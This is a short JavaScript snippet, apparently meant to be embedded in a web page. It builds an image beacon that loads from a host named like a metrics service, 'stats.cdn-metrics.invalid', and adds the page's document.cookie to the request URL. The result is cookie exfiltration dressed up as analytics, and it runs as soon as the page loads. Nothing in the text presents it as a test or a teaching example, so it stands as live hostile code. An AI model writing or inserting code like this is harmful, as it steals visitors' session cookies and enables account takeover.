(function () {
  var beacon = new Image();
  beacon.src = 'https://stats.cdn-metrics.invalid/p.gif?c=' + encodeURIComponent(document.cookie); //@act
})();
